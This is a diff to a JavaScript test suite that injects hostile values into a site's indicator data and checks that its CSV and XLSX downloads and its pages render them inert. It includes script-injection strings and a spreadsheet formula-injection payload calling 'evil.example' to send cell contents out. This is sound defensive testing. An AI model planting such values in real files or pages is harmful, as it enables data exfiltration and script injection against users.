@@ -12,6 +12,7 @@ import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import path from 'node:path';
 import { start } from './server.mjs';
+import yauzl from 'yauzl';
 import {
   REPO,
   readBasePath,
@@ -25,6 +26,9 @@ import {
 } from './helpers.mjs';
 
 export const HOSTILE = ['</script><script>alert(1)</script>', '"; alert(1); "'];
+// Names a spreadsheet would evaluate if a CSV cell started with them (formula injection):
+// given to the next indicators, then looked for in the downloads.
+export const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm")', '@SUM(1,2)'];
 
 // What the site is made of. Required ones must exist; optional ones are copied when present.
 const REQUIRED = ['config.toml', 'data', 'content', 'templates'];
@@ -94,15 +98,18 @@ function decodeEntities(s) {
     .replace(/&amp;/g, '&');
 }
 
-function htmlFiles(dir) {
+/** Every file under dir whose name ends with ext. */
+function filesEnding(dir, ext) {
   const out = [];
   for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
     const p = path.join(dir, e.name);
-    if (e.isDirectory()) out.push(...htmlFiles(p));
-    else if (e.name.endsWith('.html')) out.push(p);
+    if (e.isDirectory()) out.push(...filesEnding(p, ext));
+    else if (e.name.endsWith(ext)) out.push(p);
   }
   return out;
 }
+
+const htmlFiles = (dir) => filesEnding(dir, '.html');
 
 /** URL path (relative to the base) of the indicator page whose <h1> shows `name`. */
 function findIndicatorPage(name) {
@@ -134,7 +141,7 @@ before(async () => {
     fs.symlinkSync(path.join(REPO, 'node_modules'), path.join(tmp, 'node_modules'), 'dir');
   }
   const indFile = path.join(tmp, 'data', 'indicators.toml');
-  const poisoned = poisonIndicators(fs.readFileSync(indFile, 'utf8'), HOSTILE);
+  const poisoned = poisonIndicators(fs.readFileSync(indFile, 'utf8'), [...HOSTILE, ...FORMULAS]);
   fs.writeFileSync(indFile, poisoned.text);
   for (const r of poisoned.replaced) {
     console.log(`# indicators.toml:${r.line}: ${JSON.stringify(r.old)} -> ${JSON.stringify(r.new)}`);
@@ -216,4 +223,80 @@ test('without CSP: no dialog opens and no script breaks', async () => {
       await ctx.close();
     }
   }
+});
+
+/** RFC 4180 CSV (quoted fields, doubled quotes, CRLF) into rows of cells. */
+function parseCSV(text) {
+  const rows = [];
+  let row = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else cell += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\n') {
+      row.push(cell.replace(/\r$/, ''));
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else cell += c;
+  }
+  return rows;
+}
+
+test('CSV downloads: no text cell starts a formula; the names are there, made inert', () => {
+  const bad = [];
+  let inert = 0;
+  for (const f of filesEnding(outDir, '.csv')) {
+    const rows = parseCSV(fs.readFileSync(f, 'utf8').replace(/^\ufeff/, ''));
+    for (const row of rows) {
+      for (const cell of row) {
+        if (/^[=+\-@\t\r]/.test(cell) && !Number.isFinite(Number(cell))) bad.push(`${path.relative(outDir, f)}: ${cell}`);
+        if (FORMULAS.some((n) => cell === "'" + n)) inert++;
+      }
+    }
+  }
+  assert.deepEqual(bad.slice(0, 10), [], `${bad.length} cells would run as formulas`);
+  assert.ok(inert > 0, 'no formula-like name found in the CSV files: the test checks nothing');
+});
+
+/** The XML of every worksheet of an XLSX file. */
+function sheets(file) {
+  return new Promise((resolve, reject) => {
+    const out = [];
+    yauzl.open(file, { lazyEntries: true }, (err, zip) => {
+      if (err) return reject(err);
+      zip.readEntry();
+      zip.on('entry', (entry) => {
+        if (!/^xl\/worksheets\/.*\.xml$/.test(entry.fileName) && entry.fileName !== 'xl/sharedStrings.xml') return zip.readEntry();
+        zip.openReadStream(entry, (err, stream) => {
+          if (err) return reject(err);
+          const chunks = [];
+          stream.on('data', (c) => chunks.push(c));
+          stream.on('end', () => {
+            out.push({ name: entry.fileName, xml: Buffer.concat(chunks).toString('utf8') });
+            zip.readEntry();
+          });
+        });
+      });
+      zip.on('end', () => resolve(out));
+    });
+  });
+}
+
+test('XLSX download: the names are text cells, no cell holds a formula', async () => {
+  const parts = await sheets(path.join(outDir, 'du-lieu', 'chi-so.xlsx'));
+  assert.ok(parts.some((p) => p.name.startsWith('xl/worksheets/')), 'no worksheet in chi-so.xlsx');
+  for (const p of parts) assert.ok(!/<f[ >]/.test(p.xml), `${p.name} holds a formula`);
+  const text = decodeEntities(parts.map((p) => p.xml).join(''));
+  for (const n of FORMULAS) assert.ok(text.includes(n), `${n} is not in the workbook as text`);
 });
